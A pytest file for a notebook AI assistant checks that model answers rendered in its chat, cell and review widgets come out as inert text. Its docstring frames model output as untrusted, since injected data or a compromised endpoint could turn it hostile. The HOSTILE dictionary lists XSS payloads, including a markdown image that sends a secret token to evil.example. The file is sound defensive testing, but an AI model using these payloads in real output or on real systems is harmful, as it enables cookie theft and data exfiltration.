"""Model text is untrusted everywhere it is shown: hostile answers render as visible, inert text.

Each payload is what a compromised endpoint, a downloaded adapter, or text pulled in through
`{df}` / `{last_error}` could make the model say. Shown through `%%assist`, the chat widget, the
review queue widget and the allocation board, none may leave a tag or attribute that runs.
"""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest
from IPython.utils.capture import capture_output

from coassist.notebook.safe_markdown import markdown_to_safe_html
from coassist.notebook.session import AssistSession
from tests.scripted_model import ScriptedModel

HOSTILE = {
    "img-onerror": "<img src=x onerror=alert(document.cookie)>",
    "script": "<script>fetch('/api/kernels', {method: 'POST'})</script>",
    "iframe": "<iframe src=\"https://evil.example/\"></iframe>",
    "javascript-link": "[click me](javascript:alert(1))",
    "javascript-html-link": '<a href="javascript:alert(1)">click me</a>',
    "svg-onload": "<svg onload=alert(1)><circle r=5 /></svg>",
    "markdown-image-exfiltration": "![chart](https://evil.example/p.png?secret=token)",
    "data-url-link": "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "style-tag": "<style>body { display: none }</style>",
    "object-embed": '<object data="x.swf"></object><embed src="x.swf">',
    "form-action": '<form action="https://evil.example"><button>go</button></form>',
    "mixed-case-script": "<ScRiPt>alert(1)</sCrIpT>",
    "entity-javascript-link": "[x](&#106;avascript:alert(1))",
    "in-inline-code": "use `<img src=x onerror=alert(1)>` here",
    "in-code-fence": "```html\n<script>alert(1)</script>\n```",
    "in-table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "attribute-breakout": '[x](https://ok.example/" onmouseover="alert(1))',
}
ACTIVE_TAGS = {"script", "iframe", "img", "svg", "object", "embed", "style", "form", "link", "meta", "base"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def assert_inert(html: str) -> None:
    """No tag that loads or runs anything, no event handler, no link outside http(s)/mailto."""
    parser = _Tags()
    parser.feed(html)
    for tag, attrs in parser.found:
        assert tag not in ACTIVE_TAGS, f"<{tag}> survived in {html!r}"
        for name, value in attrs:
            assert not name.startswith("on"), f"{name}= survived in {html!r}"
            if name in ("href", "src"):
                assert (value or "").split(":", 1)[0].lower() in ("http", "https", "mailto"), html


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
def test_safe_markdown_leaves_nothing_that_runs(payload: str) -> None:
    assert_inert(markdown_to_safe_html(payload))


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
def test_assist_cell_output_is_inert_and_shows_the_text(shell, monkeypatch: pytest.MonkeyPatch, payload: str) -> None:
    model = ScriptedModel(payload)
    monkeypatch.setattr(AssistSession, "model", lambda self, spec=None: model)
    with capture_output() as captured:
        shell.run_cell_magic("assist", "", "say something")
    final = captured.outputs[-1].data
    assert "text/markdown" not in final  # JupyterLab would render its raw HTML in a trusted cell
    assert final["text/plain"] == payload
    assert_inert(final["text/html"])


def test_markdown_formatting_still_renders() -> None:
    html = markdown_to_safe_html("# Title\n\n**bold**, `code` and [docs](https://pandas.pydata.org)\n\n- one\n- two")
    assert "<h1>Title</h1>" in html and "<strong>bold</strong>" in html and "<code>code</code>" in html
    assert '<a href="https://pandas.pydata.org" rel="noopener noreferrer nofollow">docs</a>' in html
    assert "<li>one</li>" in html


@pytest.mark.parametrize("payload", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"])
def test_visible_as_text(payload: str) -> None:
    html = markdown_to_safe_html(payload)
    assert payload.replace("<", "&lt;").replace(">", "&gt;") in html


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
def test_chat_widget_transcript_is_inert(payload: str) -> None:
    from types import SimpleNamespace

    from coassist.config import Assist
    from coassist.notebook.widgets import ChatWidget

    session = AssistSession(SimpleNamespace(user_ns={}), config=Assist())
    session.model = lambda spec=None: ScriptedModel(payload)  # type: ignore[method-assign]
    chat = ChatWidget(session, min_interval=0)
    chat.prompt.value = payload  # the question is shown too
    chat.send_button.click()
    chat.wait(10)
    assert_inert(chat.transcript.value)


@pytest.mark.parametrize("payload", list(HOSTILE.values())[:6], ids=list(HOSTILE.keys())[:6])
def test_review_queue_widget_is_inert(tmp_path: Path, payload: str) -> None:
    from coassist.notebook.widgets import ReviewQueueWidget
    from coassist.review import DraftingConfig, draft_ai_subtasks, import_plan, open_store
    from tests.test_review_support import small_plan

    subtasks, workers, plan = small_plan()
    subtasks["title"] = payload
    with open_store(f"sqlite:///{tmp_path / 'r.db'}") as store:
        plan_id = import_plan(store, subtasks, workers, plan, actor=payload)
        draft_ai_subtasks(store, plan_id, ScriptedModel(payload), DraftingConfig(progress=False))
        queue = ReviewQueueWidget(store, reviewer=payload)
        cards = queue.card_list
        assert cards and all(card.text.value == payload for card in cards)  # a Textarea shows text as text
        for card in cards:
            assert_inert(card.children[0].value)
        assert_inert(queue.summary.value)


def test_allocation_board_is_inert() -> None:
    from coassist.notebook.widgets import AllocationBoard
    from coassist.plan import Subtask, Worker

    hostile = HOSTILE["img-onerror"]
    board = AllocationBoard(
        [Subtask(hostile, "sql", 2, title=HOSTILE["script"])],
        [Worker(HOSTILE["svg-onload"], "human", ("sql",), 8, 10)],
    )
    for html in (board.status.value, board.table.value, board.why_not.value):
        assert_inert(html)
